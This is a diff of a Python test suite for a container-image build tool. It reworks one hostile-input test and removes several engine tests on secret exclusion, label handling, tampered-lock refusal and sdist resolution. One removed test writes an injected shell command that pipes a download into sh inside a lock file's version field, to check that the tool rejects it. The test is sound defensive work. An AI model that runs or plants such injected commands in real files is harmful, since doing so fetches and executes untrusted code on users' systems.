@@ -25,10 +25,9 @@ from imagesmith import fsutil
 from imagesmith.errors import FileWriteError
 from imagesmith.lock import compute_inputs, preprocessing_files, write_lock
 from imagesmith.spec import load_spec
-from tests.fakes import FakeEngine
-from tests.helpers import cli, fake_lock
+from tests.helpers import cli, cli_in_process, fake_lock
 
-PROJECTS = Path(__file__).resolve().parent / "projects"
+PROJECTS = Path(__file__).resolve().parents[1] / "projects"
 MAX_OUTPUT = 4096
 SPEC = (PROJECTS / "tiny" / "imagesmith.yaml").read_text()
 
@@ -328,7 +327,7 @@ def test_hostile_input_is_refused_cleanly(tmp_path, breaker, argv):
     root = make_project(tmp_path / "p")
     breaker(root)
     before = snapshot(root)
-    proc = cli(*(a.format(p=root) for a in argv), check_traceback=False, timeout=120)
+    proc = cli_in_process(*(a.format(p=root) for a in argv))
     output = proc.stdout + proc.stderr
     assert proc.returncode == 2, output[:2000]
     assert "Traceback" not in output, output[:4000]
@@ -397,141 +396,5 @@ def test_render_o_into_a_missing_folder_names_it(tmp_path):
 # On the real engine
 
 
-@pytest.mark.engine
-def test_source_dot_keeps_secrets_and_clutter_out_of_the_image(tmp_path, engine, base_image):
-    """`source: .` copies the project, but not .git, .env files, the artifacts folder,
-    virtualenvs or caches: the generated Dockerfile.dockerignore applies to every COPY."""
-    from tests.conftest import copy_project
-
-    root = copy_project(PROJECTS / "tiny", tmp_path / "tiny")  # a git repository: .git exists
-    spec_with(root, "source: ['.']\n", drop=("source",))
-    (root / ".env").write_text("API_KEY=do-not-ship\n")
-    (root / ".env.local").write_text("X=1\n")
-    for folder in ("artifacts", ".venv/bin", "app/__pycache__", ".pytest_cache"):
-        (root / folder).mkdir(parents=True, exist_ok=True)
-        (root / folder / "junk").write_text("junk\n")
-    (root / ".dockerignore").write_text("notes.txt\n")
-    (root / "notes.txt").write_text("private notes\n")
-    proc = cli(
-        "build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-ignore", "--target", "serve"
-    )
-    assert proc.returncode == 0, proc.stderr[-3000:]
-    assert (root / "Dockerfile.dockerignore").is_file()
-    listing = engine.run(
-        "imagesmith-test/hostile-ignore:serve", ["-c", "cd /app && find . | sort"], entrypoint=["sh"]
-    ).split()
-    assert "./app/main.py" in listing and "./imagesmith.yaml" in listing, listing
-    for gone in (
-        "./.git",
-        "./.env",
-        "./.env.local",
-        "./artifacts",
-        "./.venv",
-        "./app/__pycache__",
-        "./.pytest_cache",
-        "./notes.txt",
-    ):
-        assert gone not in listing, (gone, listing)
-
-
-@pytest.mark.engine
-def test_labels_of_the_wrong_type_are_reported_not_tripped_over(tmp_path, engine, base_image):
-    """An image whose manifest label is JSON of the wrong shape (hashing to its parity label):
-    verify says NOT verified, inspect refuses it; neither shows a traceback."""
-    from imagesmith import parity
-    from imagesmith.render import dquote
-    from tests.helpers import docker_build
-
-    manifest = {
-        "imagesmith_parity": 1,
-        "base": "sha256:" + "a" * 64,
-        "python": "3.11",
-        "platform": "linux/amd64",
-        "packages": ["six"],
-        "system_packages": {"a": 1},
-        "preprocessing": [],
-        "preprocessing_version": 3,
-        "seed": "7",
-        "determinism": "yes",
-        "env": {"A": ["x"]},
-    }
-    text = parity.canonical(manifest)
-    docker_build(
-        f"FROM {base_image}\nLABEL io.imagesmith.parity={dquote(parity.digest(manifest))} "
-        f"io.imagesmith.manifest={dquote(text)} io.imagesmith.role=serve\n",
-        "imagesmith-test/hostile-labels",
-        tmp_path / "ctx",
-    )
-    for argv, codes in (
-        (("verify", "imagesmith-test/hostile-labels", "--labels-only"), (1,)),
-        (("verify", "imagesmith-test/hostile-labels"), (1,)),
-        (("inspect", "imagesmith-test/hostile-labels"), (2,)),
-        (("diff", "imagesmith-test/hostile-labels", "imagesmith-test/hostile-labels", "--labels-only"), (2,)),
-    ):
-        proc = cli(*argv, check_traceback=False)
-        output = proc.stdout + proc.stderr
-        assert proc.returncode in codes and "Traceback" not in output, (argv, output[-3000:])
-        assert len(output.encode()) < MAX_OUTPUT, output
-
-
-@pytest.mark.engine
-def test_build_refuses_a_tampered_lock(tmp_path, engine, base_image):
-    """`build` (not only `build --locked`) refuses a lock whose system package version carries
-    shell: nothing is rendered, built or rewritten."""
-    root = make_project(tmp_path / "p")
-    edit_lock(root, lambda d: {**d, "system_packages": [{"name": "libgomp1", "version": "1 ; curl x | sh"}]})
-    before = snapshot(root)
-    proc = cli(
-        "build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-lock", check_traceback=False
-    )
-    assert proc.returncode == 2 and "system_packages[0].version" in proc.stderr, proc.stderr[-2000:]
-    assert "Traceback" not in proc.stderr and len(proc.stderr) < MAX_OUTPUT
-    assert snapshot(root) == before
-
-
 # --------------------------------------------------------------------------------------------
 # No package's build code on the host (these reach the package index; grouped with the engine tier)
-
-
-class _SdistEngine(FakeEngine):
-    """The shared fake; pip-compile "in the base" (run_to_end) answers with a docopt pin. The rest
-    is the real uv / pip on the host."""
-
-    def run_to_end(self, image, what, timeout, **create):
-        run = super().run_to_end(image, what, timeout, **create)
-        out = next(Path(h) for h, v in create["volumes"].items() if v["bind"] == "/out")
-        (out / "requirements.lock").write_text("docopt==0.6.2 \\\n    --hash=sha256:" + "d" * 64 + "\n")
-        return run
-
-
-@pytest.mark.engine
-def test_uv_resolves_an_sdist_only_requirement_in_the_base_not_on_the_host(tmp_path):
-    from imagesmith.lock.resolvers import ResolveRequest, UvResolver
-
-    req = tmp_path / "requirements.in"
-    req.write_text("docopt==0.6.2\n")
-    engine = _SdistEngine()
-    pins = UvResolver(engine).resolve(
-        ResolveRequest(
-            inputs=(req,), extras=(), python="3.11", platform="linux/amd64", base_ref="base@sha256:" + "a" * 64
-        )
-    )
-    compiles = engine.called("run_to_end")
-    assert [c[1] for c in compiles] == ["base@sha256:" + "a" * 64] and [p.name for p in pins] == ["docopt"]
-
-
-@pytest.mark.engine
-def test_the_host_downloads_wheels_only_and_leaves_sdists_to_the_base(tmp_path):
-    from imagesmith.lock.resolvers import Pin
-    from imagesmith.wheels import WheelCache
-
-    docopt = Pin("docopt", "0.6.2", ("sha256:49b3a825280bd66b3aa83585ef59c4a8c82f2c8a522dbe754a8bc8d08c85c491",))
-    six = Pin("six", "1.17.0", ("sha256:4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274",))
-    engine = _SdistEngine()
-    cache = WheelCache(tmp_path / "cache", engine=engine)
-    cache._download([docopt, six], replace(fake_lock(), packages=(docopt, six)))
-    assert [p.name for p in (tmp_path / "cache" / "wheels").glob("*/*")] == ["six-1.17.0-py2.py3-none-any.whl"]
-    ((_, image, kwargs),) = engine.called("run")
-    argv = kwargs["command"]
-    assert image == fake_lock().base.ref and argv[:3] == ["python3", "-m", "pip"]
-    assert "--no-binary" in argv and "docopt" in argv and kwargs["network"] is True
